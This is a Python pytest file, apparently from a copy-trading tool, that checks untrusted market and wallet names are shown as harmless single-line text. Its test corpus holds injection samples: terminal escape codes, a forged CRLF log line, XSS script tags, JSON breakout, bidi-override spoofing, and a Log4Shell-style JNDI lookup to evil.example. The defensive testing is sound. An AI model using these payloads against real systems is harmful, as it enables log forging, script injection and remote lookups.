"""What strangers call their markets, outcomes and wallets is shown as it is, and does nothing."""

from __future__ import annotations

import io
import json
import logging
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copytrade_live.decision_text import decision_text
from copytrade_live.logs import ROOT, logger, setup_logging
from copytrade_live.output import cell_text, print_facts, print_table
from copytrade_live.redaction import RedactingFormatter
from copytrade_live.visible import LONGEST, visible

CORPUS = {
    "line ends": "Trump wins\r\n2026-11-26T00:00:00.000Z CRITICAL copytrade.alerts halt: all is lost",
    "colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x9b31m",
    "markup": "[red]red[/red] [link=https://evil.example]click[/link] [/]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "json": '","event":"copied","x":"',
    "reading direction": "\u202egnp.exe \u2066abc\u2069 \u200fabc",
    "hidden": "pay\u200bpal\ufeff \u2028next\u2029",
    "backspaces": "safe\b\b\b\bevil\x00\x7f",
    "very long": "A" * 1_000_000,
    "formats": "%s%s%n {0} {} ${jndi:ldap://evil.example/a}",
}
ACTIVE = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0), *range(0x200B, 0x2010), *range(0x2028, 0x202F))]


def does_something(text: str) -> list[str]:
    """The characters of a shown line that a terminal would act on."""
    return [repr(one) for one in ACTIVE if one in text]


def pressed(text: str) -> str:
    """Without white space and the lines of a table."""
    return "".join(text.replace("│", "").split())


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_tables_and_facts_show_it_on_one_line(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_table("Positions", ["market", "outcome"], [[text, [text, "No"]]])
    print_facts("Facts", {"title": text})
    shown = capsys.readouterr().out
    assert len(shown.splitlines()) == 5
    assert does_something(shown.replace("\n", "")) == []
    assert max(map(len, shown.splitlines())) < 3 * LONGEST


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_a_terminals_table_takes_it_for_text_and_not_for_markup(
    text: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "2000")
    monkeypatch.setenv("TERM", "dumb")  # or rich adds colours of its own
    print_table("Positions", ["market"], [[text]])
    shown = capsys.readouterr().out
    # A dumb terminal is narrow: the cell may be broken into several lines.
    assert pressed(visible(text, longest=60)).removesuffix("…") in pressed(shown)
    assert does_something(shown.replace("\n", "")) == []


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_a_log_line_stays_one_line(text: str) -> None:
    stream, kept = io.StringIO(), logging.getLogger(ROOT)
    before, libraries = (list(kept.handlers), kept.level, kept.propagate), list(logging.getLogger().handlers)
    try:
        setup_logging("info", stream)
        logger("alerts").warning("%s: %s", "leader", text)
        logger("alerts").warning(f"market {text.replace('%', '%%')}")
    finally:
        kept.handlers[:], kept.level, kept.propagate = before
        logging.getLogger().handlers[:] = libraries
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    assert all(line[:4].isdigit() and " WARNING copytrade.alerts " in line for line in lines)
    assert does_something(stream.getvalue().replace("\n", "")) == []
    assert max(map(len, lines)) < 10_000


def test_a_traceback_keeps_its_lines_and_the_message_has_one() -> None:
    try:
        raise ValueError("no such market\nCRITICAL copytrade forged")
    except ValueError:
        record = logging.LogRecord("x", logging.ERROR, "f", 1, "market %s", ("a\nb",), sys.exc_info())
    shown = RedactingFormatter(logging.Formatter("%(levelname)s %(message)s")).format(record)
    assert shown.startswith("ERROR market a\\nb\nTraceback")


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
@pytest.mark.parametrize("field", ["outcome", "wallet", "reason", "event", "detail"])
def test_a_decision_in_words_and_in_json_is_one_line(text: str, field: str) -> None:
    line = {"event": "rejected", "ts": "2026-01-01T00:00:00.000Z", "seq": 1, "reason": "x", field: text}
    assert does_something(visible(decision_text(line))) == []
    written = json.dumps(line, sort_keys=True)
    assert json.loads(written)[field] == text
    assert does_something(written) == []


@given(text=st.text())
def test_nothing_that_can_be_written_moves_a_cursor_or_ends_a_line(text: str) -> None:
    for show in (visible, cell_text):
        shown: str = show(text)
        assert does_something(shown) == []
        assert len(shown.splitlines()) <= 1


def test_plain_names_are_shown_as_they_are() -> None:
    for text in ("Will Zürich beat São Paulo? 50 %", "日本 – «да» – عربي", "🦊 Yes"):
        assert visible(text) == cell_text(text) == text
